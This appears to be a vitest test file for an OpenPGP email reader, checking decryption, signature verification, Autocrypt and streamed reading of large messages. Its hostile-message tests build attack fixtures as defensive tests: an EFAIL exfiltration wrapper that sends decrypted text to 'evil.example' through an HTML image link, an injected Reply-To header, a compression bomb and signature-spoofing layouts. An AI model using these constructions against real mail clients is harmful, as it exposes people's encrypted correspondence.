import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import * as openpgp from 'openpgp';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import {
  encryptWithAll,
  generateToolKeys,
  interopAvailability,
  scratch,
  type Scratch,
  type ToolKey,
} from '../../testing/interop';
import { createCryptoApi } from '../crypto/api';
import type { GeneratedKey } from '../crypto/types';
import type { MessageInput } from '../mime/build-message';
import { buildMessage, buildPayload } from '../../testing/mime';
import { wrapEncrypted, wrapSigned, micalgFor } from '../mime/pgp-mime';
import { autocryptEvents } from './autocrypt-events';
import { openMessage, rootKeyIds, type OpenMessageOptions } from './open-message';
import { openStreamed } from './streamed-decryption';

const availability = interopAvailability();
const crypto = createCryptoApi();
const PASS = 'reading passphrase';
const bytes = (s: string) => new TextEncoder().encode(s.replace(/\r?\n/g, '\r\n'));
const text = (b: Uint8Array) => new TextDecoder().decode(b);
const MAX = 8 * 1024 * 1024;
const bytesOf = async (b: Blob | undefined) => new Uint8Array(b ? await b.arrayBuffer() : []);

let bob: GeneratedKey;
let alice: GeneratedKey;
let eve: GeneratedKey;
let bobV6: GeneratedKey;

const gen = (name: string, algorithm: 'curve25519-legacy' | 'curve25519-v6' = 'curve25519-legacy') =>
  crypto.generateKey({ name, email: `${name}@example.org`, passphrase: PASS, algorithm, expiresInSeconds: 0 });

beforeAll(async () => {
  [bob, alice, eve, bobV6] = await Promise.all([gen('bob'), gen('alice'), gen('eve'), gen('bobsix', 'curve25519-v6')]);
  for (const k of [bob, alice, bobV6]) await crypto.unlockKey(k.armoredSecret, PASS, 600_000);
}, 60_000);

const options = (over: Partial<OpenMessageOptions> = {}): OpenMessageOptions => ({
  verifyWith: [alice.armoredPublic],
  pinned: null,
  maxDecompressedBytes: MAX,
  ...over,
});

const input = (over: Partial<MessageInput> = {}): MessageInput => ({
  from: { name: 'Alice', address: 'alice@example.org' },
  to: [{ name: 'Bob', address: 'bob@example.org' }],
  cc: [],
  bcc: [],
  subject: 'Geheim: Grüße',
  text: 'Hello Bob,\nthe secret is 42.\n',
  attachments: [{ name: 'data.bin', type: 'application/octet-stream', content: new Uint8Array([0, 1, 2, 250, 255]) }],
  date: new Date('2026-12-01T10:00:00Z'),
  messageId: '<read-1@example.org>',
  baseBoundary: 'b1',
  ...over,
});

/** A message as the composer sends it: PGP/MIME, signed inside the encryption (combined). */
async function sentByApp(over: Partial<MessageInput> = {}, to: GeneratedKey = bob, signWith = alice) {
  const i = input(over);
  const payload = buildPayload(i, 'cipher');
  await crypto.unlockKey(signWith.armoredSecret, PASS, 600_000);
  const { armored } = await crypto.encryptPayload({
    payload,
    recipients: [{ armoredPublic: to.armoredPublic, address: to.summary.userIds[0]!.email }],
    signWith: signWith.summary.fingerprint,
  });
  return new Uint8Array(await wrapEncrypted(i, armored).bytes.arrayBuffer());
}

const encryptBinary = async (to: GeneratedKey, data: string, config: Partial<openpgp.Config>) =>
  (await openpgp.encrypt({
    message: await openpgp.createMessage({ text: data }),
    encryptionKeys: await openpgp.readKey({ armoredKey: to.armoredPublic }),
    format: 'binary',
    config,
  })) as Uint8Array;
const armor = (binary: Uint8Array) => openpgp.armor(openpgp.enums.armor.message, binary);

const encryptedMessage = (
  armored: string,
  head = 'From: Alice <alice@example.org>\nTo: bob@example.org\nSubject: [...]\n',
) =>
  bytes(
    `${head}MIME-Version: 1.0\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="E"\n\n--E\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--E\nContent-Type: application/octet-stream\n\n${armored.trim()}\n--E--\n`,
  );

describe('messages the app sends', () => {
  it('decrypts, verifies, shows the protected subject and the attachment byte-exact', async () => {
    const raw = await sentByApp();
    expect(await rootKeyIds(raw, crypto)).toHaveLength(1);
    const opened = await openMessage(raw, crypto, options());
    expect(opened.encryption).toBe('encrypted');
    expect(opened.signature).toBe('valid');
    expect(opened.signer?.fingerprint).toBe(alice.summary.fingerprint);
    expect(opened.headers.subject).toBe('Geheim: Grüße');
    expect(opened.headerProtection).toBe('rfc9788');
    expect(opened.injectedHeaders).toEqual([]);
    expect(opened.parts).toEqual([
      { kind: 'text', content: 'Hello Bob,\nthe secret is 42.\n', encrypted: true, signed: true },
    ]);
    expect([...(await bytesOf(opened.attachments[0]!.content))]).toEqual([0, 1, 2, 250, 255]);
    expect(opened.headers.from).toEqual([{ name: 'Alice', address: 'alice@example.org' }]);
  });

  it('v6 keys (SEIPDv2): a tampered AEAD chunk fails with no plaintext', async () => {
    const raw = await sentByApp({}, bobV6);
    expect((await openMessage(raw, crypto, options())).encryption).toBe('encrypted');
    const binary = await encryptBinary(bobV6, 'Content-Type: text/plain\r\n\r\nsecret words here\r\n', {});
    binary[binary.length - 40]! ^= 1;
    const opened = await openMessage(encryptedMessage(armor(binary)), crypto, options());
    expect(opened.encryption).toBe('failed');
    expect(opened.parts).toEqual([]);
    expect(opened.attachments).toEqual([]);
  });

  it('a signature by a key other than the pinned one is `changed`; without the key, `unknown-key`', async () => {
    const raw = await sentByApp();
    expect((await openMessage(raw, crypto, options({ pinned: eve.summary.fingerprint }))).signature).toBe('changed');
    const unknown = await openMessage(raw, crypto, options({ verifyWith: [] }));
    expect(unknown.signature).toBe('unknown-key');
    expect(unknown.unknownIssuers).toHaveLength(1);
  });

  it('without the key or without unlocking: no-key / locked, and no decryption is tried', async () => {
    const raw = await sentByApp();
    const spy = { ...crypto, openEncrypted: vi.fn(crypto.openEncrypted) };
    expect((await openMessage(raw, spy, options({ cannotDecrypt: 'no-key' }))).encryption).toBe('no-key');
    expect((await openMessage(raw, spy, options({ cannotDecrypt: 'locked' }))).encryption).toBe('locked');
    expect(spy.openEncrypted).not.toHaveBeenCalled();
  });
});

describe('hostile messages', () => {
  it('altered ciphertext (MDC mismatch): failed, nothing shown', async () => {
    const binary = await encryptBinary(bob, 'Content-Type: text/plain\r\n\r\nsecret words here\r\n', {
      aeadProtect: false,
      preferredCompressionAlgorithm: openpgp.enums.compression.uncompressed,
    });
    binary[binary.length - 30]! ^= 0x20;
    const opened = await openMessage(encryptedMessage(armor(binary)), crypto, options());
    expect(opened.encryption).toBe('failed');
    expect(opened.encryptionProblem).toMatch(/Modification detected|integrity|modif/i);
    expect(JSON.stringify(opened)).not.toContain('secret words');
  });

  it('EFAIL direct exfiltration: a ciphertext between HTML parts is not decrypted', async () => {
    const armored = (await openpgp.encrypt({
      message: await openpgp.createMessage({ text: 'Content-Type: text/plain\r\n\r\nsecret\r\n' }),
      encryptionKeys: await openpgp.readKey({ armoredKey: bob.armoredPublic }),
    })) as string;
    const raw = bytes(
      `From: alice@example.org\nSubject: hi\nContent-Type: multipart/mixed; boundary="X"\n\n--X\nContent-Type: text/html\n\n<img src="http://evil.example/?\n--X\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="E"\n\n--E\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--E\nContent-Type: application/octet-stream\n\n${armored.trim()}\n--E--\n--X\nContent-Type: text/html\n\n">\n--X--\n`,
    );
    const spy = { ...crypto, openEncrypted: vi.fn(crypto.openEncrypted) };
    const opened = await openMessage(raw, spy, options());
    expect(opened.encryption).toBe('partial');
    expect(spy.openEncrypted).not.toHaveBeenCalled();
    expect(opened.parts.map((p) => p.kind)).toEqual(['html', 'html']);
    expect(opened.attachments.map((a) => a.name)).toEqual(['encrypted.asc']);
    expect(await rootKeyIds(raw, crypto)).toEqual([]);
  });

  it('compression bomb: failed with a reason', async () => {
    const armored = (await openpgp.encrypt({
      message: await openpgp.createMessage({ binary: new Uint8Array(4 * 1024 * 1024) }),
      encryptionKeys: await openpgp.readKey({ armoredKey: bob.armoredPublic }),
      config: { preferredCompressionAlgorithm: openpgp.enums.compression.zlib },
    })) as string;
    expect(armored.length).toBeLessThan(100_000);
    const opened = await openMessage(encryptedMessage(armored), crypto, options({ maxDecompressedBytes: 1024 * 1024 }));
    expect(opened.encryption).toBe('failed');
    expect(opened.encryptionProblem).toMatch(/size/i);
  });

  it('signed part with unsigned text before it: partial', async () => {
    const part = 'Content-Type: text/plain\r\n\r\nI agree.\r\n';
    await crypto.unlockKey(alice.armoredSecret, PASS, 600_000);
    const { armoredSignature } = await crypto.signPayload({ payload: part, signWith: alice.summary.fingerprint });
    const raw = bytes(
      `From: alice@example.org\nSubject: hi\nContent-Type: multipart/mixed; boundary="X"\n\n--X\nContent-Type: text/plain\n\nYou are fired.\n--X\nContent-Type: multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha256; boundary="S"\n\n--S\n${part}\n--S\nContent-Type: application/pgp-signature\n\n${armoredSignature.trim()}\n--S--\n--X--\n`,
    );
    const opened = await openMessage(raw, crypto, options());
    expect(opened.signature).toBe('partial');
    expect(opened.parts.map((p) => [p.content.trim(), p.signed])).toEqual([
      ['You are fired.', false],
      ['I agree.', true],
    ]);
  });

  it('good signature by someone other than From, and two From fields: mismatch', async () => {
    const raw = await sentByApp({}, bob, eve);
    const opened = await openMessage(raw, crypto, options({ verifyWith: [alice.armoredPublic, eve.armoredPublic] }));
    expect(opened.signature).toBe('mismatch');
    expect(opened.signatureDetail).toContain('eve@example.org');
    const i = input();
    const signedPart = buildPayload(i, 'clear');
    const { armoredSignature, hash } = await crypto.signPayload({
      payload: signedPart,
      signWith: alice.summary.fingerprint,
    });
    const single = await wrapSigned(i, signedPart, armoredSignature, micalgFor(hash)).bytes.text();
    expect((await openMessage(bytes(single), crypto, options())).signature).toBe('valid');
    // Header protection shows the signed inner From; without it, two outer From fields are a mismatch.
    const part = 'Content-Type: text/plain\r\n\r\nI agree.\r\n';
    const plainSig = await crypto.signPayload({ payload: part, signWith: alice.summary.fingerprint });
    const signedMessage = (from: string) =>
      bytes(
        `${from}Subject: hi\nContent-Type: multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha256; boundary="S"\n\n--S\n${part}\n--S\nContent-Type: application/pgp-signature\n\n${plainSig.armoredSignature.trim()}\n--S--\n`,
      );
    expect((await openMessage(signedMessage('From: alice@example.org\n'), crypto, options())).signature).toBe('valid');
    const twoFrom = signedMessage('From: alice@example.org\nFrom: mallory@example.org\n');
    expect((await openMessage(twoFrom, crypto, options())).signature).toBe('mismatch');
  });

  it('a display name that looks like an address is not the identity', async () => {
    const raw = await sentByApp({ from: { name: 'boss@work.example', address: 'eve@example.org' } }, bob, eve);
    const opened = await openMessage(raw, crypto, options({ verifyWith: [eve.armoredPublic] }));
    expect(opened.signature).toBe('valid');
    expect(opened.signer?.addresses).toEqual(['eve@example.org']);
    expect(opened.headers.from[0]!.address).toBe('eve@example.org');
  });

  it('header fields added outside a protected message are reported, not shown', async () => {
    const raw = text(await sentByApp());
    const injected = raw.replace('Subject: [...]', 'Subject: [...]\r\nReply-To: mallory@evil.example');
    const opened = await openMessage(new TextEncoder().encode(injected), crypto, options());
    expect(opened.headers.replyTo).toEqual([]);
    expect(opened.injectedHeaders).toEqual(['reply-to: mallory@evil.example']);
  });

  it('raw UTF-8 header fields (RFC 6532) and bytes 0x80-0x9F survive', async () => {
    const opened = await openMessage(
      new TextEncoder().encode('From: Zoë <z@example.org>\r\nSubject: Häkchen ✓ œ\r\n\r\nhi\r\n'),
      crypto,
      options(),
    );
    expect(opened.headers.subject).toBe('Häkchen ✓ œ');
    expect(opened.headers.from[0]).toEqual({ name: 'Zoë', address: 'z@example.org' });
  });

  it('Autocrypt: a header whose addr is not From is ignored; a valid one is taken', async () => {
    const keydata = btoa(
      String.fromCharCode(...(await crypto.autocryptKeydata(alice.armoredPublic, 'alice@example.org'))),
    );
    const base = `From: alice@example.org\r\nTo: bob@example.org\r\nSubject: hi\r\n`;
    const body = `Content-Type: text/plain\r\n\r\nhi\r\n`;
    const good = await openMessage(
      new TextEncoder().encode(`${base}Autocrypt: addr=alice@example.org; keydata=${keydata}\r\n${body}`),
      crypto,
      options(),
    );
    expect(good.autocrypt.header?.address).toBe('alice@example.org');
    const wrong = await openMessage(
      new TextEncoder().encode(`${base}Autocrypt: addr=eve@example.org; keydata=${keydata}\r\n${body}`),
      crypto,
      options(),
    );
    expect(wrong.autocrypt.header).toBeNull();
    const critical = await openMessage(
      new TextEncoder().encode(`${base}Autocrypt: addr=alice@example.org; future=1; keydata=${keydata}\r\n${body}`),
      crypto,
      options(),
    );
    expect(critical.autocrypt.header).toBeNull();
    // What the peer state learns: the sender's key with its fingerprint; a key that is not the
    // sender's (no user ID for the address) counts as no header at all.
    const now = new Date('2026-12-05T00:00:00Z');
    expect(await autocryptEvents(good, crypto, now)).toEqual([
      {
        kind: 'header',
        address: 'alice@example.org',
        date: now, // no Date field: the time of reading
        keydata,
        fingerprint: alice.summary.fingerprint,
        preferEncrypt: false,
      },
    ]);
    const eveKeydata = btoa(
      String.fromCharCode(...(await crypto.autocryptKeydata(eve.armoredPublic, 'eve@example.org'))),
    );
    const notHers = await openMessage(
      new TextEncoder().encode(
        `${base}Date: Tue, 01 Dec 2026 10:00:00 +0000\r\nAutocrypt: addr=alice@example.org; keydata=${eveKeydata}\r\n${body}`,
      ),
      crypto,
      options(),
    );
    expect(await autocryptEvents(notHers, crypto, now)).toEqual([
      { kind: 'none', address: 'alice@example.org', date: new Date('2026-12-01T10:00:00Z') },
    ]);
  });

  it('a signature made far from the message’s Date stays valid, with a warning saying so', async () => {
    const replayed = await openMessage(
      await sentByApp({ date: new Date(Date.now() - 9 * 24 * 3600_000) }),
      crypto,
      options(),
    );
    expect(replayed.signature).toBe('valid');
    expect(replayed.signatureWarning).toMatch(/^The signature was made on \d{4}-\d\d-\d\d, but the message is dated/);
    const fresh = await openMessage(await sentByApp({ date: new Date() }), crypto, options());
    expect(fresh.signature).toBe('valid');
    expect(fresh.signatureWarning).toBeNull();
  });

  it('Autocrypt gossip: only from a signed and encrypted payload, only for its To/Cc, only a key for that address', async () => {
    const carol = await gen('carol');
    const keydataOf = async (k: GeneratedKey, address: string) =>
      btoa(String.fromCharCode(...(await crypto.autocryptKeydata(k.armoredPublic, address))));
    const carolKeydata = await keydataOf(carol, 'carol@example.org');
    const i = input({ cc: [{ name: 'Carol', address: 'carol@example.org' }] });
    const gossip = (address: string, keydata: string) => `Autocrypt-Gossip: addr=${address}; keydata=${keydata}\r\n`;
    const message = async (gossipLines: string, signWith?: string) => {
      const { armored } = await crypto.encryptPayload({
        payload: gossipLines + buildPayload(i, 'cipher'),
        recipients: [{ armoredPublic: bob.armoredPublic, address: 'bob@example.org' }],
        ...(signWith ? { signWith } : {}),
      });
      return openMessage(new Uint8Array(await wrapEncrypted(i, armored).bytes.arrayBuffer()), crypto, options());
    };
    const signed = await message(
      gossip('carol@example.org', carolKeydata) + gossip('dave@example.org', carolKeydata),
      alice.summary.fingerprint,
    );
    expect(signed.signature).toBe('valid');
    expect(signed.autocrypt.gossip).toEqual([{ address: 'carol@example.org', keydata: carolKeydata }]); // dave is no recipient
    const events = await autocryptEvents(signed, crypto, new Date('2026-12-05T00:00:00Z'));
    expect(events).toContainEqual({
      kind: 'gossip',
      address: 'carol@example.org',
      date: new Date('2026-12-01T10:00:00Z'),
      keydata: carolKeydata,
      fingerprint: carol.summary.fingerprint,
    });
    const unsigned = await message(gossip('carol@example.org', carolKeydata));
    expect(unsigned.autocrypt.gossip).toEqual([]);
    const wrongKey = await message(
      gossip('carol@example.org', await keydataOf(eve, 'eve@example.org')),
      alice.summary.fingerprint,
    );
    expect((await autocryptEvents(wrongKey, crypto, new Date())).filter((e) => e.kind === 'gossip')).toEqual([]);
  });
});

/** A download of `raw` that counts what was read of it, in the pieces a network gives. */
function counted(raw: Uint8Array) {
  const seen = { downloads: 0, bytes: 0 };
  const open = async () => {
    seen.downloads++;
    let at = 0;
    return new ReadableStream<Uint8Array>(
      {
        pull(controller) {
          if (at >= raw.length) return controller.close();
          const piece = raw.subarray(at, (at += 16 * 1024));
          seen.bytes += piece.length;
          controller.enqueue(piece);
        },
      },
      { highWaterMark: 0 },
    );
  };
  return { open, seen };
}

describe('large messages are read as they download', () => {
  const big = new Uint8Array(3 * 1024 * 1024).map((_, i) => (i * 7 + (i >> 9)) & 0xff);

  it('the key IDs come from the head alone; the attachment is decoded into a Blob on the way', async () => {
    const raw = await sentByApp({
      attachments: [{ name: 'big.bin', type: 'application/octet-stream', content: big }],
    });
    const keys = counted(raw);
    expect(await rootKeyIds(keys.open, crypto)).toEqual(await rootKeyIds(raw, crypto));
    expect(keys.seen.bytes).toBeLessThan(128 * 1024);

    const reading = counted(raw);
    const opened = await openMessage(reading.open, crypto, options());
    expect([opened.encryption, opened.signature, reading.seen.downloads]).toEqual(['encrypted', 'valid', 1]);
    expect(opened.attachments.map((a) => [a.name, a.size, a.encrypted, a.signed])).toEqual([
      ['big.bin', big.length, true, true],
    ]);
    expect(Buffer.from(await bytesOf(opened.attachments[0]!.content)).equals(Buffer.from(big))).toBe(true);

    // The decrypted payload is kept only as a skeleton: the file's body is not in it.
    const streamed = await openStreamed(await counted(raw).open(), crypto, options());
    if (streamed.kind !== 'opened') throw new Error(streamed.kind);
    expect(streamed.payload.length).toBeLessThan(4096);
    expect(streamed.outer.length).toBeLessThan(4096);
    expect([...streamed.files.values()].map((b) => b.size)).toEqual([big.length]);
  });

  it('an unencrypted message: the key look-up stops at its header, and one download decodes the files into Blobs', async () => {
    const raw = buildMessage(
      input({
        attachments: [
          { name: 'big.bin', type: 'application/octet-stream', content: big },
          { name: 'small.bin', type: 'application/octet-stream', content: new Uint8Array([0, 1, 2, 250, 255]) },
        ],
      }),
    ).bytes;
    const keys = counted(raw);
    expect(await rootKeyIds(keys.open, crypto)).toEqual([]);
    expect(keys.seen.bytes).toBeLessThan(64 * 1024);

    const reading = counted(raw);
    const opened = await openMessage(reading.open, crypto, options());
    expect([opened.encryption, opened.signature, reading.seen.downloads]).toEqual(['none', 'unsigned', 1]);
    expect(opened.parts.map((p) => p.content)).toEqual(['Hello Bob,\nthe secret is 42.\n']);
    expect(opened.attachments.map((a) => [a.name, a.size, a.encrypted, a.signed])).toEqual([
      ['big.bin', big.length, false, false],
      ['small.bin', 5, false, false],
    ]);
    expect(Buffer.from(await bytesOf(opened.attachments[0]!.content)).equals(Buffer.from(big))).toBe(true);
    expect([...(await bytesOf(opened.attachments[1]!.content))]).toEqual([0, 1, 2, 250, 255]);
    // Read as it came, the same as from bytes in hand.
    expect({ ...opened, attachments: [] }).toEqual({ ...(await openMessage(raw, crypto, options())), attachments: [] });

    // Only a skeleton of the message is kept: the files' bodies are not in it.
    const streamed = await openStreamed(await counted(raw).open(), crypto, options());
    if (streamed.kind !== 'undecrypted') throw new Error(streamed.kind);
    expect(streamed.skeleton.length).toBeLessThan(4096);
    expect([...streamed.files.values()].map((b) => b.size).sort((a, b) => a - b)).toEqual([5, big.length]);
  });

  it('a signed message keeps what its signature covers: the key look-up stops at the header, the files are checked', async () => {
    const i = input({ attachments: [{ name: 'big.bin', type: 'application/octet-stream', content: big }] });
    const payload = buildPayload(i, 'clear');
    const { armoredSignature, hash } = await crypto.signPayload({ payload, signWith: alice.summary.fingerprint });
    const raw = new Uint8Array(await wrapSigned(i, payload, armoredSignature, micalgFor(hash)).bytes.arrayBuffer());
    const keys = counted(raw);
    expect(await rootKeyIds(keys.open, crypto)).toEqual([]);
    expect(keys.seen.bytes).toBeLessThan(64 * 1024);
    const reading = counted(raw);
    const opened = await openMessage(reading.open, crypto, options());
    expect([opened.encryption, opened.signature, reading.seen.downloads]).toEqual(['none', 'valid', 1]);
    expect(opened.attachments.map((a) => [a.name, a.size, a.signed])).toEqual([['big.bin', big.length, true]]);
    expect(Buffer.from(await bytesOf(opened.attachments[0]!.content)).equals(Buffer.from(big))).toBe(true);

    // The signed part's bytes went into a Blob for the signature, its file into another: the skeleton is small.
    const streamed = await openStreamed(await counted(raw).open(), crypto, options());
    if (streamed.kind !== 'undecrypted') throw new Error(streamed.kind);
    expect(streamed.skeleton.length).toBeLessThan(8192);
    expect([...streamed.files.values()].map((b) => b.size)).toEqual([big.length]);
    expect(Buffer.from(await bytesOf(streamed.signedPart!.bytes)).toString('latin1')).toBe(payload);

    // Stored with LF line ends, it is still what was signed (RFC 3156: the signature covers CRLF).
    const lf = new TextEncoder().encode(text(raw).replace(/\r\n/g, '\n'));
    expect((await openMessage(lf, crypto, options())).signature).toBe('valid');
    const tampered = text(raw).replace(
      /\r\n(A[A-Za-z0-9+/]{75})\r\n/,
      (_, line: string) => `\r\nB${line.slice(1)}\r\n`,
    );
    expect(tampered).not.toBe(text(raw));
    expect((await openMessage(bytes(tampered), crypto, options())).signature).toBe('bad');
  });

  it('a signed part the stream and the parser see differently is read again whole, and not called signed', async () => {
    const part = 'Content-Type: text/plain\r\n\nsigned words\r\n';
    const { armoredSignature } = await crypto.signPayload({ payload: part, signWith: alice.summary.fingerprint });
    // The inner multipart reuses the root's boundary: the stream closes the inner one, the parser splits the root.
    const raw = bytes(
      `From: alice@example.org\nSubject: same boundary\nContent-Type: multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha512; boundary="s"\n\n--s\nContent-Type: multipart/mixed; boundary="s"\n\n--s\nContent-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\nAAECAwQ=\n--s--\n\n--s\nContent-Type: application/pgp-signature\n\n${armoredSignature.trim()}\n--s--\n`,
    );
    const reading = counted(raw);
    const opened = await openMessage(reading.open, crypto, options());
    expect(reading.seen.downloads).toBe(2);
    expect(opened.signature).not.toBe('valid');
    expect(opened.attachments.every((a) => !a.signed)).toBe(true);
  });

  it('a cut-off download is a failure with nothing shown, not the part that arrived', async () => {
    const raw = await sentByApp({
      text: 'the secret words',
      attachments: [{ name: 'big.bin', type: 'application/octet-stream', content: big }],
    });
    const cut = raw.subarray(0, Math.floor(raw.length * 0.7));
    const opened = await openMessage(cut, crypto, options());
    expect([opened.encryption, opened.parts, opened.attachments]).toEqual(['failed', [], []]);
    expect(opened.encryptionProblem).toBeTruthy();
    expect(JSON.stringify(opened)).not.toContain('secret words');
  });

  it('a multipart/encrypted with a third part is not PGP/MIME: read again whole, and not decrypted', async () => {
    const sent = text(await sentByApp());
    const raw = sent.replace(
      /\r\n--enc-b1--\r\n$/,
      '\r\n--enc-b1\r\nContent-Type: text/plain\r\n\r\nextra\r\n--enc-b1--\r\n',
    );
    expect(raw).not.toBe(sent);
    const reading = counted(bytes(raw));
    const opened = await openMessage(reading.open, crypto, options());
    expect(reading.seen.downloads).toBe(2);
    expect([opened.encryption, opened.signature]).toEqual(['none', 'unsigned']);
    expect(opened.attachments.map((a) => a.encrypted)).not.toContain(true);
  });

  it('a download that breaks off is a network error to retry, not a message that failed to decrypt', async () => {
    const raw = await sentByApp({
      attachments: [{ name: 'big.bin', type: 'application/octet-stream', content: big }],
    });
    const breaking = async () => {
      let at = 0;
      return new ReadableStream<Uint8Array>({
        pull(controller) {
          if (at > raw.length / 2) return controller.error(new TypeError('network error'));
          controller.enqueue(raw.slice(at, (at += 64 * 1024)));
        },
      });
    };
    await expect(openMessage(breaking, crypto, options())).rejects.toMatchObject({ code: 'jmap/unreachable' });
  });

  it('only the first armored block of the encrypted part is read; text around it is not the message', async () => {
    const block = async (t: string) => armor(await encryptBinary(bob, `Content-Type: text/plain\r\n\r\n${t}\r\n`, {}));
    const [first, second] = await Promise.all([block('first words'), block('second words')]);
    for (const body of [`${first.trim()}\n${second.trim()}`, `intro text ${first.trim()}\ntrailing text`]) {
      const opened = await openMessage(encryptedMessage(body), crypto, options({ verifyWith: [] }));
      expect([opened.encryption, opened.parts.map((p) => p.content.trim())]).toEqual(['encrypted', ['first words']]);
      expect(JSON.stringify(opened)).not.toContain('second words');
    }
  });

  it('an encrypted part with no armor in it says so', async () => {
    const raw = encryptedMessage('not an OpenPGP message at all');
    const opened = await openMessage(raw, crypto, options());
    expect([opened.encryption, opened.encryptionProblem]).toEqual([
      'failed',
      'The encrypted part holds no OpenPGP message.',
    ]);
  });
});

describe.runIf(availability.run)('messages from other implementations', () => {
  let s: Scratch;
  let tools: ToolKey[];
  const payload =
    'Content-Type: multipart/mixed; boundary="P"; protected-headers="v1"\r\nSubject: Tool subject\r\nFrom: TOOL\r\n\r\n--P\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nGr=C3=BC=C3=9Fe from the tool\r\n--P\r\nContent-Type: application/octet-stream; name="x.bin"\r\nContent-Disposition: attachment; filename="x.bin"\r\nContent-Transfer-Encoding: base64\r\n\r\nAAEC+v8=\r\n--P--\r\n';

  beforeAll(() => {
    s = scratch();
    tools = generateToolKeys(s);
    writeFileSync(join(s.dir, 'bob.pub.asc'), bob.armoredPublic);
  }, 120_000);
  afterAll(() => s?.cleanup());

  it('PGP/MIME encrypted and signed by gpg, sq, sqop, gosop and rnp: text, attachment, valid signature', async () => {
    const results: Record<string, string> = {};
    for (const tool of tools) {
      const file = join(s.dir, `${tool.tool}.payload`);
      writeFileSync(file, payload.replace('From: TOOL', `From: ${tool.email}`));
      const armored = encryptWithAll(
        s,
        [tool],
        { publicFile: join(s.dir, 'bob.pub.asc'), email: 'bob@example.org' },
        file,
      )[tool.tool]!;
      const raw = encryptedMessage(armored, `From: ${tool.email}\nTo: bob@example.org\nSubject: ...\n`);
      const opened = await openMessage(raw, crypto, options({ verifyWith: [tool.publicKey] }));
      results[tool.tool] =
        `${opened.encryption} ${opened.signature} ${opened.signer?.fingerprint === tool.fingerprint} ` +
        `${opened.headers.subject} | ${opened.parts[0]?.content.trim()} | ${[...(await bytesOf(opened.attachments[0]?.content))].join(',')}`;
    }
    const expected = 'encrypted valid true Tool subject | Grüße from the tool | 0,1,2,250,255';
    expect(results).toEqual(Object.fromEntries(tools.map((t) => [t.tool, expected])));
  }, 120_000);

  it('gpg inline: an encrypted and signed text, a cleartext-signed text, a SHA-1 signature', async () => {
    const gpgKey = tools.find((t) => t.tool === 'gpg-ed25519')!;
    const plain = join(s.dir, 'inline.txt');
    writeFileSync(plain, 'Inline grüße\n');
    const armored = encryptWithAll(
      s,
      [gpgKey],
      { publicFile: join(s.dir, 'bob.pub.asc'), email: 'bob@example.org' },
      plain,
    )[gpgKey.tool]!;
    const head = `From: ${gpgKey.email}\r\nTo: bob@example.org\r\nSubject: inline\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n`;
    const inline = await openMessage(
      new TextEncoder().encode(head + armored),
      crypto,
      options({ verifyWith: [gpgKey.publicKey] }),
    );
    expect([inline.encryption, inline.signature, inline.parts[0]?.content]).toEqual([
      'encrypted',
      'valid',
      'Inline grüße\n',
    ]);

    const clear = s.gpg([
      '--passphrase',
      gpgKey.passphrase!,
      '--local-user',
      gpgKey.email,
      '--clearsign',
      '--output',
      '-',
      plain,
    ]);
    const signed = await openMessage(
      new TextEncoder().encode(head + clear),
      crypto,
      options({ verifyWith: [gpgKey.publicKey] }),
    );
    expect([signed.encryption, signed.signature, signed.parts[0]?.content.trim()]).toEqual([
      'none',
      'valid',
      'Inline grüße',
    ]);
    const prefixed = await openMessage(
      new TextEncoder().encode(`${head}Unsigned words first.\r\n${clear}`),
      crypto,
      options({ verifyWith: [gpgKey.publicKey] }),
    );
    expect(prefixed.signature).toBe('partial');

    const sha1 = s.gpg([
      '--passphrase',
      gpgKey.passphrase!,
      '--local-user',
      gpgKey.email,
      '--digest-algo',
      'SHA1',
      '--clearsign',
      '--output',
      '-',
      plain,
    ]);
    const weak = await openMessage(
      new TextEncoder().encode(head + sha1),
      crypto,
      options({ verifyWith: [gpgKey.publicKey] }),
    );
    expect(weak.signature).toBe('bad');
    expect(weak.signatureDetail).toMatch(/SHA1/i);
  }, 60_000);
});
